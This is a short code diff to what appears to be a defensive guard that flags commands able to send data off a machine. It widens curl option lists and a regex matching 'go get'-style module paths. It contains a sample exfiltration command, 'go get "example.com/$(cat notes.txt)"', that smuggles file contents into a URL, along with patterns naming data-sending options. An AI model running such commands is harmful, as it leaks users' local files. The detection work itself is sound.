@@ -7,7 +7,7 @@ _SENDS = "sends a file to another machine"
 _CURL_DATA = "-d --data --data-binary --data-ascii --data-urlencode --json"
 #: Options of curl and wget whose value goes with a request.
 _CURL_SENT = (
-    "-H --header -A --user-agent -u --user -b --cookie -e --referer --oauth2-bearer --proxy-user --proxy-header "
+    "-H --header -A --user-agent -u --user -b --cookie -e --referer --oauth2-bearer -U --proxy-user --proxy-header "
     "--form-string"
 )
 _WGET_SENT = "--header -U --user-agent --user --password --http-user --http-password --referer"
@@ -250,7 +250,7 @@ UPLOAD_FLOWS: tuple[Flow, ...] = (
             GuardedCommand(
                 run="go get|install|run|mod|list",
                 does=_SENDS,
-                operand=r"^[\w-]+\.[\w.-]+/[^\0]{0,200}\0",
+                text=r"^(?:https?://)?[\w-]+\.[\w.-]+/[^\0]{0,200}\0",
                 example='go get "example.com/$(cat notes.txt)"',
             ),
             GuardedCommand(
